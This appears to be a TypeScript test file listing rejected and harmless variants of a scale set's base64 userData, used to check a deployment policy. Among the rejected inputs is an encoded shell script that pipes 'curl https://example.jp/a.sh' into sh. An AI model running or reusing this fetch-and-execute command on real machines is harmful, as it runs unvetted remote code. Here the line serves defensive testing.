import { gzipSync } from 'node:zlib';
import { absent } from '../support/places';
import type { PolicyMutants } from '../support/policy-mutants';
import { change, other } from '../support/rows';
import { machineType, ofMachines, scaleSet } from '../support/scale-set';

const places = ofMachines('userData');
const pack = (text: string) => Buffer.from(text).toString('base64');
const unpack = (before: unknown) => Buffer.from(String(before), 'base64');
/** Bundles are packed by gzip, as their size calls for. */
const isPacked = (bytes: Buffer) => bytes[0] === 0x1f && bytes[1] === 0x8b;

export const mutants: PolicyMutants = {
  specimens: scaleSet,
  broken: [
    ...places.map((place) =>
      change({
        ...place,
        to: (before) => [
          '',
          absent,
          null,
          'not base64!',
          pack('#!/bin/sh\ncurl https://example.jp/a.sh | sh\n'),
          pack('yosai-bundle/1 1\n\n#!/bin/sh\n'),
          pack(`yosai-bundle/0 1\n${'0'.repeat(64)}  machine\n\n#!/bin/sh\n`),
          unpack(before).subarray(0, 40).toString('base64'),
          pack('x'.repeat(60_000)),
        ],
      }),
    ),
    change({
      of: machineType,
      path: 'osProfile.computerName',
      to: ['somebody-else', 'AOBA-APP-1', '', absent],
    }),
  ],
  harmless: places.map((place) =>
    other({
      ...place,
      to: (before) => {
        const bytes = unpack(before);
        const again = isPacked(bytes) ? [] : [gzipSync(bytes).toString('base64')];
        return [String(before).replace(/(.{76})/g, '$1\n'), ...again];
      },
    }),
  ),
};
